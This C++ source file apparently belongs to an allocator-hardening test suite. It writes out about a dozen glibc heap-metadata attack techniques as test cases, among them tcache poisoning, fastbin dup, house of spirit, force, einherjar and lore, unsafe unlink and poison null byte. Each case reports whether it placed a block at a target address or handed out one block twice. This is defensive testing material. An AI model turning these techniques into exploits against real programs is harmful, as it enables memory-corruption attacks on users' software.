// Attacks on the allocator's own data, as published collections of heap exploits have them (how2heap and others). They aim at the
// layout of one allocator, glibc's mostly, by writes that any program with the same bug would make; on every other layout they are
// that bug and nothing more. Harm is what the attack is after: a block where the attacker wants it, or one block given twice.
#include "crimes.hpp"

namespace crimes {
namespace {

struct alignas(16) Fake {
  uintptr_t word[32];
};
Fake target;

uintptr_t mangled(const void* at, const void* to) { return (reinterpret_cast<uintptr_t>(at) >> 12) ^ reinterpret_cast<uintptr_t>(to); }
Harm goal(const void* wanted, std::size_t n) { return block_at(wanted, n) ? Harm::done : Harm::none; }

/// Writes a link into released memory: the next but one block should lie at the target.
template <bool kMangled, std::size_t kSize> Harm poisoned_link() {
  char* const a = block(kSize);
  char* const b = block(kSize);
  announce(b);
  release(a);
  release(b);
  write_word(b, 0, kMangled ? mangled(b, &target) : reinterpret_cast<uintptr_t>(&target));
  return goal(&target, kSize);
}
/// Clears what marks a released block as such, then releases it again.
Harm cleared_key() {
  char* const p = block(100);
  announce(p);
  release(p);
  write_at(p, 0, 16, 0);
  release(p);
  return same_block_twice(100) ? Harm::done : Harm::none;
}
Harm fastbin_dup() {
  void* held[8];
  for (void*& one : held) one = block(40);
  char* const a = block(40);
  char* const b = block(40);
  announce(a);
  for (void* one : held) release(one);
  release(a);
  release(b);
  release(a);
  return same_block_twice(40) ? Harm::done : Harm::none;
}
/// A chunk forged on the stack is released, to be given out later.
Harm house_of_spirit() {
  target.word[1] = 0x71;
  target.word[15] = 0x1234;
  announce(&target.word[2]);
  release(&target.word[2]);
  return goal(&target.word[2], 0x60);
}
Harm house_of_force() {
  char* const p = block(0x100);
  announce(p);
  write_word(p, 0x108, ~uintptr_t{0});
  release(p);
  return Harm::done;
}
Harm unsafe_unlink() {
  char* const p = block(0x420);
  char* const next = block(0x420);
  announce(p);
  write_word(p, 8, 0x421);
  write_word(p, 16, reinterpret_cast<uintptr_t>(&target) - 24);
  write_word(p, 24, reinterpret_cast<uintptr_t>(&target) - 16);
  write_word(next, -16, 0x420);
  write_word(next, -8, 0x430);
  release(next);
  release(p);
  return Harm::done;
}
Harm house_of_einherjar() {
  char* const p = block(0x38);
  char* const next = block(0xf8);
  announce(p);
  write_word(p, 0x30, 0x60);
  write_at(p, 0x38, 1, 0);
  release(next);
  release(p);
  return Harm::done;
}
Harm poison_null_byte() {
  char* const p = block(0x108);
  char* const next = block(0x200);
  announce(p);
  write_at(p, 0x108, 1, 0);
  release(next);
  release(p);
  return Harm::done;
}
/// The size of the next chunk is made larger: released, it covers the one behind it.
Harm overlapping_chunks() {
  char* const p = block(0x78);
  char* const next = block(0x78);
  char* const last = block(0x78);
  announce(p);
  write_word(p, 0x78, 0x101);
  release(next);
  char* const wide = block(0xf0);
  const bool overlaps = wide <= last && last < wide + 0xf0;
  release(p);
  return overlaps ? Harm::done : Harm::none;
}
/// Forged back links of a released chunk that lies in a doubly linked list.
template <std::size_t kSize> Harm forged_back_link() {
  char* const p = block(kSize);
  char* const wall = block(24);
  announce(p);
  release(p);
  write_word(p, 8, reinterpret_cast<uintptr_t>(&target));
  char* const again = block(kSize);
  release(wall);
  release(again);
  return target.word[2] || target.word[3] ? Harm::done : Harm::none;
}
/// The size in front of a mapped block is made larger, so that more than the block is unmapped.
Harm mapped_size() {
  char* const p = block(1 << 20);
  announce(p);
  write_word(p, -8, (2 << 20) | 2);
  release(p);
  return Harm::done;
}
Harm header_wiped() {
  char* const p = block(200);
  char* const q = block(200);
  announce(q);
  write_at(q, -16, 16, 0);
  release(q);
  release(p);
  return Harm::done;
}
Harm header_of_a_released_block() {
  char* const p = block(200);
  char* const q = block(200);
  announce(p);
  release(q);
  write_at(p, 200, 24, 0x42);
  release(p);
  return Harm::done;
}

}  // namespace

const Crime kMetadata[] = {
    {"tcache_poisoning", "metadata", poisoned_link<false, 100>},
    {"tcache_poisoning_safe_linking", "metadata", poisoned_link<true, 100>},
    {"small_block_poisoning", "metadata", poisoned_link<false, 16>},
    {"tcache_key_cleared", "metadata", cleared_key},
    {"fastbin_dup", "metadata", fastbin_dup},
    {"house_of_spirit", "metadata", house_of_spirit},
    {"house_of_force", "metadata", house_of_force},
    {"house_of_einherjar", "metadata", house_of_einherjar},
    {"house_of_lore", "metadata", forged_back_link<0x90>},
    {"unsorted_bin_attack", "metadata", forged_back_link<0x420>},
    {"unsafe_unlink", "metadata", unsafe_unlink},
    {"poison_null_byte", "metadata", poison_null_byte},
    {"overlapping_chunks", "metadata", overlapping_chunks},
    {"mapped_chunk_size", "metadata", mapped_size},
    {"header_wiped", "metadata", header_wiped},
    {"header_of_a_released_block", "metadata", header_of_a_released_block},
};
const std::size_t kMetadataCount = sizeof kMetadata / sizeof *kMetadata;

}  // namespace crimes
